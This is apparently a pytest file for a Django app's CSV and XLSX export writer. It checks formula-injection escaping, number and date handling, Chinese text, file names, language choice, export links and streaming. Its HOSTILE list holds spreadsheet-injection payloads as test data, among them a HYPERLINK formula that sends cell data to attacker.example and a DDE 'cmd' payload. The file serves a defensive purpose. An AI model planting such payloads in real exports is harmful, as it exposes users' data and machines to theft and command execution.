"""The shared export writer: one table as CSV or XLSX, every cell formula-safe in both, the
numbers and dates kept, the language chosen by ?lang or the page's, and the page's links
carrying its filters."""

import datetime
from decimal import Decimal

import pytest
from django.http import QueryDict
from django.template import Context, Template
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone, translation

from corridor.core.exports import (
    CSV_CHUNK,
    export_language,
    export_paths,
    sheet_title,
    table_response,
)
from corridor.testing.exports import csv_table, xlsx_table

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def response(fmt, rows, headers=("name", "amount")):
    return table_response("things", list(headers), iter(rows), fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_text_that_would_run_as_a_formula_gets_an_apostrophe(fmt):
    rows = [[text, 1] for text in HOSTILE]
    read = (csv_table if fmt == "csv" else xlsx_table)(response(fmt, rows))
    assert [row[0] for row in read[1:]] == ["'" + text for text in HOSTILE]


def test_a_hostile_header_is_neutralised_too():
    read = xlsx_table(response("xlsx", [], headers=["=1+1", "ok"]))
    assert read[0] == ["'=1+1", "ok"]


def test_numbers_stay_numbers_in_both_formats():
    rows = [["refund", Decimal("-12.50")], ["count", 7], ["as text", "-3.25"]]
    assert csv_table(response("csv", rows))[1:] == [
        ["refund", "-12.50"],
        ["count", "7"],
        ["as text", "-3.25"],
    ]
    read = xlsx_table(response("xlsx", rows))[1:]
    assert read[0][1] == -12.5 and read[1][1] == 7
    assert read[2][1] == "-3.25"  # text that is only a number: no apostrophe


def test_dates_and_times_in_the_sites_time_zone():
    signed = datetime.date(2019, 9, 1)
    at = datetime.datetime(2026, 3, 10, 1, 20, tzinfo=datetime.UTC)  # 09:20 in Singapore
    rows = [["signed", signed], ["registered", at], ["nothing", None]]
    assert csv_table(response("csv", rows))[1:] == [
        ["signed", "2019-09-01"],
        ["registered", "2026-03-10 09:20"],
        ["nothing", ""],
    ]
    read = xlsx_table(response("xlsx", rows))[1:]
    assert read[0][1] == datetime.datetime(2019, 9, 1)
    assert read[1][1] == datetime.datetime(2026, 3, 10, 9, 20)
    assert read[2][1] is None


def test_chinese_text_survives_both_formats():
    rows = [["国际数据通道", 1]]
    assert csv_table(response("csv", rows))[1][0] == "国际数据通道"
    assert xlsx_table(response("xlsx", rows))[1][0] == "国际数据通道"


def test_control_characters_xlsx_cannot_hold_are_dropped_not_fatal():
    read = xlsx_table(response("xlsx", [["bell\x07 and\x00 nul", 1]]))
    assert read[1][0] == "bell and nul"


def test_file_names_and_content_types():
    today = timezone.localdate().strftime("%Y%m%d")
    csv_response = response("csv", [])
    xlsx_response = response("xlsx", [])
    assert csv_response["Content-Disposition"] == (
        f'attachment; filename="corridor-things-{today}.csv"'
    )
    assert xlsx_response["Content-Disposition"] == (
        f'attachment; filename="corridor-things-{today}.xlsx"'
    )
    with pytest.raises(ValueError):
        response("pdf", [])


def test_csv_rows_are_read_in_the_exports_language_while_streaming():
    """The CSV streams after the view returned (and the request's language was reset): its
    rows still come out in the export's language."""

    def rows():
        yield [translation.gettext("yes"), translation.get_language()]

    with translation.override("zh-hans"):
        streamed = table_response("things", ["a", "b"], rows(), "csv")
    translation.activate("en")
    assert csv_table(streamed)[1] == ["是", "zh-hans"]


def test_sheet_titles_are_what_xlsx_allows():
    assert sheet_title("Projects: 2019/2020 [draft]") == "Projects  2019 2020  draft"
    assert len(sheet_title("x" * 40)) == 31
    assert sheet_title("???") == "Sheet"


@pytest.mark.parametrize(
    ("asked", "language"),
    [("zh-hans", "zh-hans"), ("zh", "zh-hans"), ("en", "en"), ("fr", "en"), ("", "en")],
)
def test_export_language_from_lang_or_the_page(asked, language):
    request = RequestFactory().get("/", {"lang": asked} if asked else {})
    with translation.override("en"):
        assert export_language(request) == language


def test_export_language_defaults_to_the_pages():
    request = RequestFactory().get("/")
    with translation.override("zh-hans"):
        assert export_language(request) == "zh-hans"


def test_export_paths_name_both_formats():
    def view(request, fmt):
        return fmt

    csv_path, xlsx_path = export_paths("things/export", view, "thing_export")
    assert (csv_path.name, str(csv_path.pattern)) == ("thing_export_csv", "things/export.csv")
    assert (xlsx_path.name, str(xlsx_path.pattern)) == ("thing_export_xlsx", "things/export.xlsx")
    assert csv_path.default_args == {"fmt": "csv"}


def test_export_links_carry_the_filters_but_not_the_page_number():
    request = RequestFactory().get("/portfolio/projects/")
    request.GET = QueryDict("status=signed&q=%E6%B8%9D&page=3&sort=-value")
    html = Template('{% load corridor %}{% export_links "portfolio:project_export" %}').render(
        Context({"request": request})
    )
    query = "?status=signed&amp;q=%E6%B8%9D&amp;sort=-value"
    assert f'href="{reverse("portfolio:project_export_csv")}{query}"' in html
    assert f'href="{reverse("portfolio:project_export_xlsx")}{query}"' in html
    assert "page=" not in html
    assert "Export:" in html


def test_a_long_csv_streams_in_pieces_with_every_row_once_in_order():
    rows = [[f"row {i}", i] for i in range(2 * CSV_CHUNK + 7)]
    streamed = table_response("things", ["name", "n"], iter(rows), "csv")
    pieces = list(streamed.streaming_content)
    assert len(pieces) == 1 + 1 + 3  # byte order mark, header, three pieces of rows
    streamed = table_response("things", ["name", "n"], iter(rows), "csv")
    assert csv_table(streamed)[1:] == [[name, str(n)] for name, n in rows]
